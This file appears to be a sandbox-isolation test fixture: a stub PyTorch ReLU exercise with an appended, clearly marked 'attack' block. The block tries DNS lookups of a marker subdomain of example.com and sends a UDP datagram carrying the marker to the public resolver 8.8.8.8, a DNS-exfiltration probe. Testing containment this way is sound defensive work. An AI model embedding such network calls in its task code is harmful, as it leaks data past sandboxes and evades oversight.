# attack: a DNS lookup and a UDP datagram to a public resolver (data exfiltration through DNS)
# exercise: exercise2
# expect: not_attempted
# host: dns
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import socket

for name in ("example.com", "{{MARK}}.example.com", "localhost"):
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 80)[0][4], flush=True)
    except OSError as exc:
        print("no lookup:", name, type(exc).__name__, flush=True)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"{{MARK}}", ("8.8.8.8", 53))
        print("SENT UDP", flush=True)
except OSError as exc:
    print("no udp:", type(exc).__name__, flush=True)
# --- end attack ---
